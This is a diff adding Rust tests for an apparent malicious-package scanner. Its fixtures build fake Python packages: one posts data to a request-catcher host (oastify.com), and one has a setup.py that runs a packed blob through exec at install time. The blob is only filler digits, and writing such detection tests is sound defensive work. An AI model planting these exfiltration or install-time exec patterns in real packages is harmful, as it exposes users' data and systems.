@@ -104,3 +104,27 @@ fn tests_and_docs_weigh_little() {
     assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
     assert!(r.findings.iter().any(|f| f.rule == "py-decode-exec"), "still reported");
 }
+
+#[test]
+fn endpoint_and_request_in_different_files() {
+    let conf = "ENDPOINT = 'https://abcdefghijklmnop.oastify.com/x'\n";
+    let send = "import requests\nfrom .conf import ENDPOINT\ndef ping(d):\n    requests.post(ENDPOINT, data=d)\n";
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf), ("demo_tool/send.py", send)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    let f = r.findings.iter().find(|f| f.rule == "exfil-request-catcher").expect("rule fires");
+    assert_eq!(f.severity, palisade_scan::Severity::Medium, "{f:?}");
+    // Without any network use in the package the same URL weighs low.
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.findings.iter().find(|f| f.rule == "exfil-request-catcher").unwrap().severity, palisade_scan::Severity::Low);
+}
+
+#[test]
+fn packed_payload_executed_in_setup() {
+    let blob = "9".repeat(6000);
+    let setup = format!("from setuptools import setup\nP = [{blob}]\nexec(''.join(chr(c) for c in P))\nsetup(name='demo')\n");
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert!(r.findings.iter().any(|f| f.rule == "py-packed-exec"), "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious);
+}
